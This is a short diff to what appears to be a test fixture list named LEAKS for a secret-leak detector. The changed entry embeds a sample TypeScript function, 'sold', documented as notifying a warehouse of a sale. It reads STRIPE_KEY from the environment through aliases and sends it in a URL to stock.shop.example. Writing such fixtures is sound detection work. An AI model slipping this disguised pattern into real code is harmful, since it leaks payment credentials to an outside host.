@@ -32,7 +32,7 @@ export const LEAKS: readonly LandingResult[] = [
     'ts: destructured and aliased',
     more(
       'src/client.ts',
-      '\nconst { env: settings } = process;\nconst ask = fetch;\n\n/** Tells the warehouse about a sale. */\nexport function sold(id: string): void {\n  const { STRIPE_KEY: k } = settings;\n  const where = `https://stock.shop.example/sold/${id}?v=${k}`;\n  void ask(where);\n}\n',
+      '\nconst { env: settings } = process;\nconst ask = fetch;\n\n/** Tells the warehouse about a sale. */\nexport function sold(id: string): void {\n  const { STRIPE_KEY: k } = settings;\n  const where = `https://stock.shop.example/sold/\u0024{id}?v=\u0024{k}`;\n  void ask(where);\n}\n',
     ),
   ),
   leak(
